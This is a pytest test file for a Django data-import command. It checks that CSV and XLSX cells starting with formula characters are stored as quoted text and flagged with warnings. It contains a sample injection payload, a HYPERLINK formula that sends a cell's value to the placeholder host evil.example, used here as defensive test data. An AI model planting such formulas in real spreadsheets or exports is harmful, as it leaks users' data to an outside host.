"""The import takes free text a spreadsheet would run as a formula as text: stored with a quote
in front, and a warning for each row (docs/import-format.md)."""

import csv
import io

import pytest
from openpyxl import Workbook

from reciprocity.balance.tests.test_import import HEADER, VALID, run
from reciprocity.missions.models import Mission
from reciprocity.placements.models import Placement

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'


def _cells(line: str, **changes: str) -> list[str]:
    cells = dict(zip(HEADER.split(","), line.split(","), strict=True))
    cells.update(changes)
    return list(cells.values())


@pytest.mark.django_db
def test_a_csv_formula_in_a_mission_title_is_imported_as_text_with_a_warning(tmp_path):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER.split(","))
    writer.writerow(_cells(VALID[0], mission_title=EVIL))
    writer.writerow(_cells(VALID[1], end_reason="-2+3", host_org="\t@Jardins"))
    path = tmp_path / "evil.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")

    code, out, err = run(path)

    assert code == 0, err
    assert Mission.objects.filter(title="'" + EVIL).exists()
    assert not Mission.objects.filter(title__startswith="=").exists()
    interrupted = Placement.objects.get(volunteer__reference="H-002")
    assert interrupted.end_reason == "'-2+3"
    assert interrupted.mission.host.name == "'@Jardins"
    assert "line 2: warning: mission_title starts with '='" in err
    assert "line 3: warning: end_reason starts with '-'" in err
    assert "line 3: warning: host_org starts with '@'" in err


@pytest.mark.django_db
def test_an_xlsx_text_cell_with_a_formula_is_imported_as_text_with_a_warning(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(","))
    row = sheet.max_row + 1
    for column, value in enumerate(_cells(VALID[0], sending_org="+Evil"), start=1):
        # A text cell, as a spreadsheet saves "+Evil" typed after a quote.
        sheet.cell(row=row, column=column, value=value).data_type = "s"
    path = tmp_path / "evil.xlsx"
    workbook.save(path)

    code, out, err = run(path)

    assert code == 0, err
    placement = Placement.objects.get(volunteer__reference="H-001")
    assert placement.sending_organisation.name == "'+Evil"
    assert "line 2: warning: sending_org starts with '+'" in err


@pytest.mark.django_db
def test_a_dry_run_says_it_and_writes_nothing(tmp_path):
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER.split(","), _cells(VALID[0], mission_title=EVIL)])
    path = tmp_path / "evil.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")

    code, out, err = run(path, "--dry-run")

    assert code == 0 and "1 warning(s)" in out
    assert "line 2: warning: mission_title starts with '='" in err
    assert not Placement.objects.exists()
